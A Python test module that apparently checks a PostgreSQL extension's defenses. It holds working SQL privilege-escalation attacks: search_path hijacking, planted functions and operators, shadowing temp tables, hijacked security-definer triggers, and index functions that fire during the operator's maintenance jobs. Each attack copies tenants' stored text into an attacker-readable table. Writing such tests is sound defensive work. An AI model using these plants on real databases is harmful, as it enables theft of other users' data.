"""Objects that an attacker plants where somebody else's code might find them."""

from __future__ import annotations

from contextlib import suppress

from attacks import attack
from attacks.session import Session, Victim

# What runs with the definer's rights reads everything; planted code says so by a row that the attacker can read.
STASH = """
create table attack.stash (who name, found text);
grant insert on attack.stash to public;
grant usage on schema attack to public;
create function attack.note() returns void language plpgsql as $$
begin
    insert into attack.stash
    select current_user, (select string_agg(canonical_text, '') from hartonomous.artifact);
exception when others then null;
end $$;
"""
PLANTS = """
create function {schema}.cardinality(bytea[]) returns int language plpgsql as
    $$begin perform attack.note(); return pg_catalog.cardinality($1); end$$;
create function {schema}.array_position(bytea[], bytea) returns int language plpgsql as
    $$begin perform attack.note(); return pg_catalog.array_position($1, $2); end$$;
create function {schema}.coalesced(bytea, bytea) returns boolean language plpgsql as
    $$begin perform attack.note(); return pg_catalog.byteaeq($1, $2); end$$;
create operator {schema}.= (function = {schema}.coalesced, leftarg = bytea, rightarg = bytea);
create function {schema}.same(text, text) returns boolean language plpgsql as
    $$begin perform attack.note(); return pg_catalog.texteq($1, $2); end$$;
create operator {schema}.= (function = {schema}.same, leftarg = text, rightarg = text);
create function {schema}.length_of(public.vector, public.vector) returns double precision language plpgsql as
    $$begin perform attack.note(); return 0; end$$;
create operator {schema}.<==> (function = {schema}.length_of, leftarg = public.vector, rightarg = public.vector);
create function {schema}.vector_norm(text) returns double precision language plpgsql as
    $$begin perform attack.note(); return 1; end$$;
create function {schema}.st_makepoint(real, real, real) returns public.geometry language plpgsql as
    $$begin perform attack.note(); return null; end$$;
create function {schema}.contains(jsonb, jsonb) returns boolean language plpgsql as
    $$begin perform attack.note(); return true; end$$;
create operator {schema}.@> (function = {schema}.contains, leftarg = jsonb, rightarg = jsonb);
"""
UNPLANT = """
drop function if exists public.cardinality(bytea[]), public.array_position(bytea[], bytea), public.vector_norm(text),
    public.st_makepoint(real, real, real);
drop function if exists public.coalesced, public.same, public.length_of, public.contains cascade"""

INGEST_MANY = "hartonomous.ingest_many(bytea[], text, text[], jsonb[], text, text[])"

FIRE = """create function attack.fire() returns trigger language plpgsql as
          $$begin perform attack.note(); return new; end$$"""
ON_HISTORY = """create trigger fire before insert on attack.t_history
                for each row execute function attack.fire()"""


def _works(session: Session) -> None:
    with session.acting() as connection:
        connection.execute("select hartonomous.ingest_many(array['a', 'b']::bytea[], 'text')")
        connection.execute("select hartonomous.ingest_document('planted', 'a text', 'text')")
        connection.execute("select hartonomous.embed_artifacts(hartonomous.embedding_pending())")
        connection.execute("""select * from hartonomous.search('data', filter => '{"metadata": {"a": 1}}')""")
        connection.execute("select * from hartonomous.search_vector(hartonomous.embed('data'))")
        connection.execute("select hartonomous.project(hartonomous.embed('data'))")


def _maintains(session: Session) -> None:
    """The operator's jobs, as the definer; one that a table stops is no matter."""
    for job in ("transaction_time_resolve()", "system_versioning_retain('attack.t', '0')", "history_prune()"):
        with suppress(RuntimeError):
            session.operator(f"select hartonomous.{job}")


def _stashed(session: Session) -> bool:
    found = session.operator("select who::text, found from attack.stash")
    return session.sees(found) or any(who.startswith("hartonomous_") for who, _ in found)


@attack(f"alter function {INGEST_MANY} reset search_path")
def in_a_schema_of_the_search_path(session: Session, victim: Victim) -> bool:
    session.plain(
        STASH, PLANTS.replace("{schema}", "attack"), "set search_path = attack, pg_catalog, hartonomous, public"
    )
    _works(session)
    return _stashed(session)


@attack(f"alter function {INGEST_MANY} set search_path = public, pg_catalog, pg_temp")
def in_public(session: Session, victim: Victim) -> bool:
    """To which the operator let everybody add."""
    session.plain(STASH, PLANTS.replace("{schema}", "public"), "set search_path = public, pg_catalog")
    try:
        _works(session)
        return _stashed(session)
    finally:
        session.operator(UNPLANT)


@attack("""create or replace function hartonomous._role_tenant() returns int language plpgsql stable
           set search_path = pg_temp, hartonomous, pg_catalog as
           $$begin return (select m.tenant_id from tenant_role as m where m.role_name = hartonomous._caller());
           end$$""")
def temporary_tables_of_our_names(session: Session, victim: Victim) -> bool:
    for table in ("tenant_role", "tenant", "artifact", "context_secret", "permit_check", "operation"):
        session.plain(f"create temp table {table} (role_name name, tenant_id int)",
                      f"insert into {table} values ('{session.role}', {victim.tenant})",
                      f"grant all on {table} to public")  # fmt: skip
    session.plain("set search_path = pg_temp, pg_catalog, hartonomous, public")
    return session.connection.execute("select hartonomous.current_tenant()").fetchone()[0] == victim.tenant


@attack("create cast (bytea as public.vector) without function")
def bytes_as_a_vector(session: Session, victim: Victim) -> bool:
    """A vector of 1000 dimensions in four bytes is the server's memory."""
    return session.tries(
        r"select public.vector_norm('\xe8030000'::bytea::public.vector)",
        r"select public.vector_norm('\xe8030000'::bytea::hartonomous_private.vector_image::public.vector)",
    )


OLD_KEEP = """
create or replace function hartonomous._version_keep() returns trigger
language plpgsql volatile parallel unsafe security definer set search_path = pg_catalog, pg_temp as $$
begin
    execute format('insert into %I.%I (%s, sys_begin, sys_end) select %s, o.sys_begin, $1 from old_rows as o
                    where o.sys_begin <> $1',
                   tg_table_schema, tg_table_name || '_history', hartonomous._version_columns(tg_relid, '%1$I'),
                   hartonomous._version_columns(tg_relid, 'o.%1$I')) using hartonomous._stamp();
    return null;
end $$"""


@attack(OLD_KEEP + "; grant execute on function hartonomous._version_keep(), hartonomous._version_stamp() to public")
def our_trigger_functions_on_ones_own_table(session: Session, victim: Victim) -> bool:
    session.plain(STASH, "create table attack.t (id int, sys_begin bigint)", "grant all on attack.t to public",
                  "create table attack.t_history (id int, sys_begin bigint, sys_end bigint)",
                  "grant all on attack.t_history to public",
                  FIRE,
                  ON_HISTORY,
                  "insert into attack.t values (1, 0)",
                  "create trigger keep after update on attack.t referencing old table as old_rows"
                  " for each statement execute function hartonomous._version_keep()",
                  "update attack.t set id = 2")  # fmt: skip
    return _stashed(session)


@attack(OLD_KEEP)
def a_history_table_of_ones_own(session: Session, victim: Victim) -> bool:
    """A table under versioning, at its owner's wish; who owns the schema puts another history in its place."""
    session.plain(STASH, "create table attack.t (id int)", "insert into attack.t values (1)")
    session.operator("select hartonomous.system_versioning_add('attack.t')")
    session.plain("drop table attack.t_history cascade",
                  "create table attack.t_history (id int, sys_begin bigint, sys_end bigint)",
                  "grant all on attack.t_history to public",
                  FIRE,
                  ON_HISTORY)  # fmt: skip
    session.tries("update attack.t set id = 2")
    return _stashed(session)


ANY_TYPES = """;
create or replace function hartonomous._version_fits(relation regclass, history regclass) returns boolean
language sql stable
set search_path = pg_catalog, pg_temp return true"""
OLD_VIEW = """
create or replace view hartonomous.versioned_table as
select t.tgrelid::regclass as relation, to_regclass(format('%I.%I', n.nspname, c.relname || '_history')) as history,
       null::interval as keep, null::timestamptz as kept_since
from pg_trigger as t join pg_class as c on c.oid = t.tgrelid join pg_namespace as n on n.oid = c.relnamespace
where t.tgfoid = 'hartonomous._version_stamp'::regproc"""


@attack(OLD_VIEW + ANY_TYPES)
def a_view_in_the_place_of_a_history(session: Session, victim: Victim) -> bool:
    """Which the operator's hourly job reads as the definer."""
    session.plain(STASH, "create table attack.t (id int)")
    session.operator("select hartonomous.system_versioning_add('attack.t')")
    session.plain("drop table attack.t_history cascade",
                  "create function attack.stamp() returns bigint language plpgsql volatile as"
                  " $$begin perform attack.note(); return 1; end$$",
                  "create view attack.t_history as select attack.stamp() as sys_begin, 1::bigint as sys_end",
                  "grant select on attack.t_history to public")  # fmt: skip
    _maintains(session)
    return _stashed(session)


@attack("select hartonomous.tenant_role_add({tenant}, session_user)")
def code_that_runs_in_an_operators_maintenance(session: Session, victim: Victim) -> bool:
    """ANALYZE and REFRESH run what owners planted, in the session of whoever maintains."""
    session.plain(STASH, "create table attack.t (id int)", "insert into attack.t values (1)")
    session.plain("create materialized view attack.m as select canonical_text from hartonomous.artifact")
    session.plain("create function attack.peek(int) returns int language plpgsql immutable as $$begin return $1; end$$",
                  "create index on attack.t (attack.peek(id))",
                  "create or replace function attack.peek(int) returns int language plpgsql immutable as"
                  " $$begin perform attack.note(); return $1; end$$")  # fmt: skip
    session.operator("analyze attack.t")
    session.operator("refresh materialized view attack.m")
    return session.sees(session.connection.execute("select * from attack.m").fetchall()) or session.sees(
        session.operator("select * from attack.stash")
    )


@attack("grant create on schema hartonomous to public; grant usage on schema hartonomous to public")
def objects_in_our_schema(session: Session, victim: Victim) -> bool:
    try:
        return session.tries("create function hartonomous.planted() returns int language sql return 1",
                             "create table hartonomous.planted (id int)",
                             "create type hartonomous.planted_type as (a int)",
                             "create table hartonomous_private.planted (id int)",
                             "create schema hartonomous_extra authorization hartonomous_owner")  # fmt: skip
    finally:
        session.operator("drop function if exists hartonomous.planted()", "drop table if exists hartonomous.planted",
                         "drop type if exists hartonomous.planted_type")  # fmt: skip


@attack("grant trigger on hartonomous.artifact to public")
def triggers_rules_and_policies_on_our_tables(session: Session, victim: Victim) -> bool:
    session.plain(STASH, "create function attack.fire() returns trigger language plpgsql security definer as"
                  " $$begin insert into attack.stash values (current_user, new.canonical_text); return new; end$$",
                  "grant execute on function attack.fire() to public")  # fmt: skip
    try:
        session.tries("create trigger fire before insert on hartonomous.artifact for each row"
                      " execute function attack.fire()",
                      "create rule fire as on insert to hartonomous.artifact do also"
                      " insert into attack.stash values ('', new.canonical_text)",
                      "create policy everything on hartonomous.artifact using (true)",
                      "alter table hartonomous.artifact disable row level security",
                      "create index on hartonomous.artifact (public.probe(canonical_text))",
                      "create statistics attack.s (mcv) on tenant_id, canonical_text from hartonomous.artifact",
                      "create publication p for table hartonomous.artifact",
                      "alter extension hartonomous add schema attack", "comment on table hartonomous.artifact is ''",
                      "security label on table hartonomous.artifact is ''")  # fmt: skip
        session.victim_ingests(f"{victim.canary} again, {session.role}")
        return _stashed(session)
    finally:
        session.operator("drop trigger if exists fire on hartonomous.artifact")


@attack(
    OLD_KEEP
    + ANY_TYPES
    + """;
create or replace function hartonomous._version_stamp() returns trigger language plpgsql security definer
set search_path = pg_catalog, pg_temp as $$begin new.sys_begin := hartonomous._stamp(); return new; end$$"""
)
def types_of_ones_own_in_a_versioned_table(session: Session, victim: Victim) -> bool:
    """Whose casts to the history's types, and from the stamp's, are functions of the owner's."""
    session.plain(STASH, "create table attack.t (id int, n int)", "insert into attack.t values (1, 1)")
    session.operator("select hartonomous.system_versioning_add('attack.t')")
    session.plain("create type attack.own as (n bigint)",
                  "create function attack.to_int(attack.own) returns int language plpgsql as"
                  " $$begin perform attack.note(); return 1; end$$",
                  "create cast (attack.own as int) with function attack.to_int as implicit",
                  "create function attack.of(bigint) returns attack.own language plpgsql as"
                  " $$begin perform attack.note(); return row($1)::attack.own; end$$",
                  "create cast (bigint as attack.own) with function attack.of as assignment",
                  "create function attack.big(attack.own) returns bigint language plpgsql as"
                  " $$begin perform attack.note(); return 1; end$$",
                  "create cast (attack.own as bigint) with function attack.big as implicit",
                  "alter table attack.t alter n type attack.own using row(n)::attack.own")  # fmt: skip
    session.tries("update attack.t set id = 2")
    session.plain("alter table attack.t drop sys_begin", "alter table attack.t add sys_begin attack.own")
    session.tries("update attack.t set id = 3")
    session.plain("alter table attack.t disable trigger all")
    _maintains(session)
    return _stashed(session)
